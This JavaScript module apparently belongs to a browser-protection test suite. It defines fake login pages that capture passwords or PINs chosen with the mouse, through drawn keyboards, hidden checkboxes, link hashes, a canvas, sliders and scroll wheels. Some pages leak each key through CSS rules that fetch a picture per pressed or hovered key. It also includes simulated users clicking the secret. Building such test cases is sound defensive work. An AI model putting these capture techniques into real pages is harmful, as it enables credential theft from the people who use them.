// Attacks without keys: keyboards that the page draws, and other ways to choose characters with the mouse.
import { fake, SECRET } from "../page.mjs";
import { arrive } from "./steal-keys.mjs";

const STYLE = `<style>.pad{display:flex;flex-wrap:wrap;width:22rem}.pad>*{display:block;width:2.6rem;height:2.6rem;margin:.1rem;border:1px solid;text-align:center;line-height:2.6rem}</style>`;
const CHARACTERS = [..."1234567890ABCDEFGHIJKLMNOPQRSTUVWXYZ"];

/** A keyboard of drawn keys below a box called Password. */
function pad(tag = "button", attributes = () => 'type="button"') {
  const keys = CHARACTERS.map(
    (key) => `<${tag} class="key k${key}" data-key="${key}" ${attributes(key)}>${key}</${tag}>`,
  );
  return `<p>Password</p><div id="box" style="border:1px solid;height:1.6rem"></div><div class="pad">${keys.join("")}</div>`;
}

const listening = (types) =>
  `for (const type of ${JSON.stringify(types)}) for (const target of [window, ...document.querySelectorAll(".key")]) target.addEventListener(type, (e) => { const key = e.target.closest?.(".key"); if (key) { steal(key.dataset.key, type); } }, true); begun();`;

async function clickKeys(hands) {
  await arrive(hands);
  while (!hands.isDone) {
    for (const key of SECRET) {
      await hands.clickOn(`.k${key}`);
      await hands.pause(30);
    }
  }
}

/** Tells which pictures the browser has fetched: the server behind them knows as much. */
const FETCHED = `new PerformanceObserver((list) => { for (const { name } of list.getEntries()) steal(new URL(name).searchParams.get("k"), "fetched"); }).observe({ type: "resource", buffered: true });`;
const fetching = (state) =>
  `<style>${CHARACTERS.map((key) => `.k${key}${state}{background-image:url(/p?k=${key})}`).join("")}</style>`;
const PICTURE = { type: "image/svg+xml", body: `<svg xmlns="http://www.w3.org/2000/svg"/>` };

const PICTURES =
  "Neither a field nor a digit stands on the page, only a picture and clicks on it, as on any page. Pictures are not read. The person sees no warning.";

export const attacks = [
  {
    id: "pad-click",
    what: "draws a keyboard of buttons",
    page: fake("pad-click", { head: STYLE, form: pad(), attack: listening(["click", "dblclick"]) }),
    person: clickKeys,
  },
  {
    id: "pad-press",
    what: "draws a keyboard of boxes that hear when the mouse is pressed or let go",
    page: fake("pad-press", {
      head: STYLE,
      form: pad("div", () => ""),
      attack: listening(["mousedown", "pointerdown", "touchstart", "mouseup", "pointerup"]),
    }),
    person: clickKeys,
  },
  {
    id: "pad-other-events",
    what: "draws a keyboard that hears all other events which a press gives rise to",
    page: fake("pad-other-events", {
      head: STYLE,
      form: pad("a", () => 'href="#" draggable="true"'),
      attack: `${listening(["focus", "focusin", "gotpointercapture", "lostpointercapture", "selectstart", "dragstart", "contextmenu", "auxclick", "pointercancel", "pointerrawupdate"])}
        for (const key of document.querySelectorAll(".key")) { key.onclick = (e) => e.preventDefault(); key.addEventListener("pointerdown", (e) => key.setPointerCapture(e.pointerId)); }`,
    }),
    person: clickKeys,
  },
  {
    id: "pad-of-links",
    what: "draws a keyboard of links, each of which leads to a part of the page",
    page: fake("pad-of-links", {
      head: STYLE,
      form: pad("a", (key) => `href="#key-${key}"`),
      attack: `addEventListener("hashchange", () => steal(location.hash.slice(-1), "address")); begun();`,
    }),
    person: clickKeys,
  },
  {
    id: "pad-of-boxes",
    what: "draws a keyboard of labels, each of which ticks a hidden box",
    page: fake("pad-of-boxes", {
      head: STYLE,
      form: `${pad("label", (key) => `for="c${key}"`)}${CHARACTERS.map((key) => `<input type="checkbox" id="c${key}" name="${key}" hidden>`).join("")}`,
      attack: `setInterval(() => { for (const box of document.querySelectorAll(":checked")) { steal(box.name, "ticked"); box.checked = false; } }, 20); begun();`,
    }),
    person: clickKeys,
  },
  {
    id: "pad-of-summaries",
    what: "draws a keyboard of parts that unfold, without any script that listens",
    page: fake("pad-of-summaries", {
      head: STYLE,
      form: `<p>Password</p><div class="pad">${CHARACTERS.map((key) => `<details data-key="${key}"><summary class="k${key}">${key}</summary></details>`).join("")}</div>`,
      attack: `setInterval(() => { for (const part of document.querySelectorAll("details[open]")) { steal(part.dataset.key, "unfolded"); part.open = false; } }, 20); begun();`,
    }),
    person: clickKeys,
  },
  {
    id: "pad-of-styles",
    what: "draws a keyboard whose style fetches a picture for each pressed key",
    page: fake("pad-of-styles", {
      head: STYLE + fetching(":active"),
      form: pad("div", () => ""),
      attack: `${FETCHED} begun();`,
    }),
    more: { "/p": PICTURE },
    person: clickKeys,
  },
  {
    id: "pad-hover",
    what: "draws a keyboard whose keys are taken by pointing at them",
    page: fake("pad-hover", {
      head: STYLE + fetching(":hover"),
      form: pad("div", () => ""),
      attack: `${FETCHED} ${listening(["mouseover", "pointermove", "mouseenter"])} setInterval(() => steal(document.querySelector(".key:hover")?.dataset.key, "hovered"), 20);`,
    }),
    more: { "/p": PICTURE },
    person: async (hands) => {
      await arrive(hands);
      while (!hands.isDone) {
        for (const key of SECRET) await hands.try(() => hands.page.hover(`.k${key}`));
      }
    },
  },
  {
    id: "pad-on-canvas",
    what: "draws a keyboard on a canvas and reckons from the place of the click",
    residual: {
      chromium: PICTURES,
      firefox: PICTURES,
    },
    page: fake("pad-on-canvas", {
      form: `<p>Password</p><canvas width="360" height="40"></canvas>`,
      attack: `const pad = document.querySelector("canvas"); const pen = pad.getContext("2d"); pen.font = "24px sans-serif"; [..."1234567890"].forEach((key, at) => pen.fillText(key, at * 36 + 8, 28));
        document.addEventListener("pointerup", (e) => { const key = Math.floor((e.clientX - pad.getBoundingClientRect().left) / 36); if (key >= 0 && key < 10) steal(String((key + 1) % 10), "place"); }, true); begun();`,
    }),
    person: async (hands) => {
      await arrive(hands);
      const left = await hands.try(() =>
        hands.page.$eval("canvas", (pad) => ({
          x: pad.getBoundingClientRect().left,
          y: pad.getBoundingClientRect().top,
        })),
      );
      while (!hands.isDone && left) {
        for (const at of [6, 3, 8, 1]) {
          await hands.click(left.x + at * 36 + 18, left.y + 20);
          await hands.pause(30);
        }
      }
    },
  },
  {
    id: "pad-in-frame",
    what: "has a drawn keyboard in a frame without fields",
    page: fake("pad-in-frame", {
      form: `<p>Password</p><iframe id="pad" style="width:24rem;height:20rem;border:0" src="/pad"></iframe>`,
      attack: "begun();",
    }),
    more: { "/pad": fake("pad-in-frame", { head: STYLE, form: pad(), attack: listening(["click", "pointerdown"]) }) },
    person: async (hands) => {
      await arrive(hands);
      const frame = await hands.try(() =>
        hands.page.waitForFrame((frame) => frame.url().endsWith("/pad"), { timeout: 2000 }),
      );
      while (!hands.isDone && frame) {
        for (const key of SECRET) {
          const box = await hands.try(async () => (await frame.$(`.k${key}`)).boundingBox());
          if (box) await hands.click(box.x + box.width / 2, box.y + box.height / 2);
          await hands.pause(30);
        }
      }
    },
  },
  {
    id: "wheel-of-digits",
    what: "has a wheel of digits that is turned by scrolling",
    page: fake("wheel-of-digits", {
      form: `<p>PIN code</p><div id="wheel" style="height:40px;width:60px;overflow-y:scroll;scroll-snap-type:y mandatory;border:1px solid">${[..."0123456789"].map((digit) => `<div style="height:40px;scroll-snap-align:start">${digit}</div>`).join("")}</div>`,
      attack: `let last = 0; setInterval(() => { const digit = Math.round(wheel.scrollTop / 40); if (digit !== last) steal(String(last = digit), "turned"); }, 30); begun();`,
    }),
    person: async (hands) => {
      await arrive(hands);
      await hands.try(() => hands.page.hover("#wheel"));
      while (!hands.isDone) {
        await hands.try(() => hands.page.mouse.wheel({ deltaY: 160 }));
        await hands.pause(150);
      }
    },
  },
  {
    id: "slider-of-digits",
    what: "has a slider for each digit of the PIN",
    page: fake("slider-of-digits", {
      form: `<label>PIN code, first digit <input id="slider" type="range" min="0" max="9" value="0"></label>`,
      attack: `let last = "0"; setInterval(() => { if (slider.value !== last) steal(last = slider.value, "slid"); }, 20); begun();`,
    }),
    person: async (hands) => {
      await arrive(hands);
      const box = await hands.try(async () => (await hands.page.$("#slider")).boundingBox());
      while (!hands.isDone && box) {
        const y = box.y + box.height / 2;
        await hands.drag({ x: box.x + 8, y }, { x: box.x + (box.width * 7) / 9, y });
        await hands.pause(50);
      }
    },
  },
  {
    id: "list-of-digits",
    what: "asks for digits by a list that has the focus and which keys choose from",
    page: fake("list-of-digits", {
      form: `<form action="/in"><label>PIN code, first digit <select id="field" name="pin_code"><option></option>${[..."0123456789"].map((digit) => `<option>${digit}</option>`).join("")}</select></label></form>`,
      attack: `const list = document.querySelector("#field"); list.focus(); let last = ""; setInterval(() => { if (list.value !== last) { steal(last = list.value, "chosen"); list.value = last = ""; } }, 20); begun();`,
    }),
    person: async (hands) => {
      await arrive(hands);
      while (!hands.isDone) {
        await hands.key("7");
        await hands.pause(60);
      }
    },
  },
];
